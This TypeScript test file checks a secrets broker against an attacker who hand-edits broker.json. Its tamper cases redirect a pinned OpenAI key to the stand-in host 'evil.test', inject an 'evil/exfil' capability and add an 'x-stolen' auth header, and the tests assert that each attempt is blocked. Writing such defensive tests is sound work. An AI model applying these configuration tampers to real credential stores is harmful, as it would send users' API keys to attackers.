/**
 * Attack (seed 002 host swap, SPEC §5): the attacker cannot use the CLI to re-point a pinned secret, so it
 * edits broker.json by hand (it owns the file). Each tamper is tried through aivaultd and in-process
 * (AIVAULTD_DISABLE=1). Stopped by: registry-backed records are re-derived from the compiled registry on
 * load, the pin is checked against the secret record at invoke, and a hand-edited file that does not
 * validate is storage_corrupt (never silently widened policy). The collector must receive nothing and the
 * OpenAI key must never travel to any host but api.openai.com.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startAttackEnv, type AttackEnv } from './support/attack-env.js';

interface Broker {
  credentials: Record<string, unknown>[];
  capabilities: Record<string, unknown>[];
  [k: string]: unknown;
}

let a: AttackEnv;
let openaiId = '';
let original = '';
let brokerPath = '';
beforeAll(async () => {
  a = await startAttackEnv();
  const list = JSON.parse((await a.cli(['-v', 'secrets', 'list'])).stdout) as { id: string; name: string }[];
  openaiId = list.find((s) => s.name === 'OPENAI_API_KEY')!.id;
  brokerPath = join(a.vaultDir, 'broker.json');
  original = readFileSync(brokerPath, 'utf8');
});
afterAll(() => a?.close());

function keyLeftProvider(): boolean {
  return a.raw.some((r) => r.host !== 'api.openai.com' && JSON.stringify(r).includes(a.openaiKey));
}

const tampers: [string, (b: Broker) => void, { cap: string; path: string; method?: string }][] = [
  [
    'registry credential gains an attacker host',
    (b) => {
      const c = b.credentials.find((x) => x.id === 'openai')!;
      c.hosts = ['evil.test'];
    },
    { cap: 'openai/models', path: '/v1/models' },
  ],
  [
    'registry credential turned into a custom one with attacker host + auth',
    (b) => {
      const c = b.credentials.find((x) => x.id === 'openai')!;
      c.source = 'custom';
      c.hosts = ['evil.test'];
      c.auth = { header: { header_name: 'x-stolen', value_template: '{{secret}}' } };
    },
    { cap: 'openai/models', path: '/v1/models' },
  ],
  [
    'custom credential re-pointed at the pinned secret',
    (b) => {
      const c = b.credentials.find((x) => x.id === 'echo')!;
      c.secretRefs = { secret: openaiId };
    },
    { cap: 'echo/api', path: '/v1/x' },
  ],
  [
    'custom credential on the pinned secret with the collector host',
    (b) => {
      const c = b.credentials.find((x) => x.id === 'echo')!;
      c.secretRefs = { secret: openaiId };
      c.hosts = ['evil.test'];
      const cap = b.capabilities.find((x) => x.id === 'echo/api')!;
      cap.allow = { hosts: ['evil.test'], methods: ['GET'], pathPrefixes: ['/'] };
    },
    { cap: 'echo/api', path: '/v1/x' },
  ],
  [
    'an injected capability on the openai provider with the collector host',
    (b) => {
      b.capabilities.push({
        id: 'evil/exfil',
        provider: 'openai',
        credentialId: 'openai',
        allow: { hosts: ['evil.test'], methods: ['GET'], pathPrefixes: ['/'] },
        createdAtMs: 1,
      });
    },
    { cap: 'evil/exfil', path: '/v1/models' },
  ],
  [
    'a registry capability overridden with the collector host',
    (b) => {
      b.capabilities.push({
        id: 'openai/models',
        provider: 'openai',
        credentialId: 'openai',
        allow: { hosts: ['evil.test'], methods: ['GET'], pathPrefixes: ['/'] },
        createdAtMs: 1,
      });
    },
    { cap: 'openai/models', path: '/v1/models' },
  ],
];

describe('attack: hand-edited broker.json tries to move a pinned secret to another host', () => {
  for (const [name, mutate, call] of tampers) {
    it(name, async () => {
      const b = JSON.parse(original) as Broker;
      mutate(b);
      writeFileSync(brokerPath, JSON.stringify(b, null, 2));
      try {
        for (const extra of [{}, { AIVAULTD_DISABLE: '1' }]) {
          const r = await a.cli(
            ['-v', 'invoke', call.cap, '--method', call.method ?? 'GET', '--path', call.path],
            extra,
          );
          if (r.code === 0) expect(a.raw.at(-1)?.host).toBe('api.openai.com');
          else
            expect(r.stdout + r.stderr).toMatch(
              /policy_violation|storage_corrupt|capability_not_found|credential_not_found|auth_failed/,
            );
          expect(r.stdout + r.stderr).not.toMatch(/at .*\.js:\d+/);
        }
        expect(a.hits('evil.test')).toEqual([]);
        expect(keyLeftProvider()).toBe(false);
      } finally {
        writeFileSync(brokerPath, original);
      }
    });
  }

  it('after restoring the file, the legitimate call still works (the test exercised a working setup)', async () => {
    const r = await a.cli(['invoke', 'openai/models']);
    expect(r.code, r.stderr).toBe(0);
    expect(a.raw.at(-1)?.headers.authorization).toBe(`Bearer ${a.openaiKey}`);
  });
});
